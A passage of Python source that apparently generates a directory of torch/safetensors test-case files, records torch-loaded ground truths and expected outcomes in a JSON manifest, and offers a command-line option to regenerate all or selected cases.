def generate(out: Path = DEFAULT_OUT, force: bool = False, truth: bool = True) -> dict:
    out = Path(out).resolve()
    stamp = out / ".stamp"
    if not force and stamp.exists() and stamp.read_text() == source_hash() and (out / "manifest.json").exists():
        return json.loads((out / "manifest.json").read_text())
    import safetensors.torch  # noqa: F401 - imported once here, not in every forked ground-truth child
    import torch  # noqa: F401

    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    write_templates(out)
    manifest = {"source_hash": source_hash(), "template": "template.pth", "cases": {}}
    for name, info in CASES.items():
        info["fn"](out / info["path"], name)
    truths = ground_truths([(n, i, str(case_path(out, i))) for n, i in CASES.items()]) if truth else {}
    for name, info in CASES.items():
        entry = {k: v for k, v in info.items() if k != "fn"}
        entry["torch"] = truths.get(name)
        entry["bytes"] = _size(out / info["path"])
        manifest["cases"][name] = entry
        print(f"{name:45s} {entry['expect']:8s} {json.dumps(entry['torch'])}", flush=True)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True))
    stamp.write_text(source_hash())
    return manifest


def _size(p: Path) -> int:
    if p.is_dir():
        return sum(f.stat().st_size for f in p.rglob("*") if f.is_file())
    return p.stat().st_size


def load_manifest(out: Path = DEFAULT_OUT) -> dict:
    return json.loads((Path(out) / "manifest.json").read_text())


if __name__ == "__main__":
    import argparse

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=str(DEFAULT_OUT))
    ap.add_argument("--force", action="store_true")
    ap.add_argument("--only", help="comma-separated case names: write and judge only these (no manifest)")
    args = ap.parse_args()
    if args.only:
        o = Path(args.out)
        o.mkdir(parents=True, exist_ok=True)
        for n in args.only.split(","):
            info = CASES[n]
            info["fn"](o / info["path"], n)
            print(n, json.dumps(ground_truth(info, str(case_path(o, info)))))
    else:
        generate(Path(args.out), force=args.force)
